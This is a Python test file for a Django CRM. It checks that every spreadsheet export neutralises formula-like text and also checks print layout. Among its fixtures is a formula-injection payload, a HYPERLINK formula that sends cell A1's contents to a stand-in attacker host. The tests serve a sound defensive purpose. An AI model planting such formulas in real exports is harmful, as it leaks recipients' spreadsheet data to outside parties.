"""No workbook the app writes runs a formula: text a spreadsheet would read as one (first
character =, +, -, @, tab or CR) is stored as text, in every sheet, row and column kind."""

import io

import pytest
from openpyxl import load_workbook

from hospitals.tests.factories import ContactFactory, HospitalFactory
from o2crm.workbooks import FORMULA_STARTS, Column, Emphasis, workbook_sheets
from pipeline.tests.factories import ProjectFactory
from proposals.tests.factories import make_proposal
from visits.tests.factories import SurveyFactory

pytestmark = pytest.mark.timeless

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
TEXTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", EVIL]


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def assert_only_text(content: bytes, expected: list[str]) -> None:
    seen = [c for c in cells(content) if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells(content) if c.data_type == "f"]
    risky = [c for c in seen if c.value.startswith(FORMULA_STARTS)]
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    values = {c.value for c in seen}
    missing = [text for text in expected if text not in values]
    assert not missing, f"not written as they were: {missing}"


def test_the_writer_stores_every_risky_text_as_text():
    columns = [Column("名称"), Column("金额", number_format="#,##0"), Column("备注", wrap=True)]
    rows = [[text, 1, text] for text in TEXTS] + [Emphasis(["=SUM(B4:B9)", 6, "+合计"])]
    content = workbook_sheets(
        title="=标题", subtitle="-筛选", sheets=[("表一", columns, rows), ("表二", columns, rows)]
    )
    assert_only_text(content, [*TEXTS, "=SUM(B4:B9)", "+合计", "=标题 · 表一", "-筛选"])
    numbers = [c.value for c in cells(content) if c.column == 2 and c.row > 3]
    assert set(numbers) == {1, 6}  # numbers stay numbers


@pytest.mark.django_db
def test_every_export_holds_only_text(as_user, alice):
    hospital = HospitalFactory(owner=alice, name="=1+1", notes=EVIL, city="杭州市")
    ContactFactory(hospital=hospital, name="=1+1", office_phone="+8657188888888", title="@1")
    SurveyFactory(hospital=hospital, supplier="=1+1")
    project = ProjectFactory(hospital=hospital, name="-1+1")
    proposal = make_proposal(project)
    client = as_user(alice)
    for url in (
        "/hospitals/export/",
        "/contacts/export/",
        "/surveys/export/",
        "/api/v1/reports/monthly?format=xlsx",
        "/api/v1/reports/discipline?format=xlsx",
        f"/api/v1/proposals/{proposal.pk}/internal.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_only_text(response.content, [])
    assert_only_text(client.get("/hospitals/export/").content, ["=1+1", EVIL])
    assert_only_text(client.get("/contacts/export/").content, ["=1+1", "+8657188888888"])
    assert_only_text(client.get("/surveys/export/").content, ["=1+1"])
    assert_only_text(client.get(f"/api/v1/proposals/{proposal.pk}/internal.xlsx").content, [])


def test_every_report_workbook_prints_on_a4_landscape_with_its_header_on_each_page(as_user, alice):
    ProjectFactory(hospital=HospitalFactory(owner=alice))
    client = as_user(alice)
    for url in (
        "/hospitals/export/",
        "/api/v1/reports/monthly?format=xlsx",
        "/api/v1/reports/forecast?format=xlsx",
        "/api/v1/reports/discipline?format=xlsx",
    ):
        book = load_workbook(io.BytesIO(client.get(url).content))
        for ws in book.worksheets:
            setup = ws.page_setup
            assert (int(setup.paperSize), setup.orientation) == (9, "landscape"), url  # A4
            assert ws.sheet_properties.pageSetUpPr.fitToPage and setup.fitToWidth == 1, url
            assert ws.print_title_rows == "$3:$3", url  # the column titles on every page
            assert ws.oddFooter.center.text == "&P / &N", url
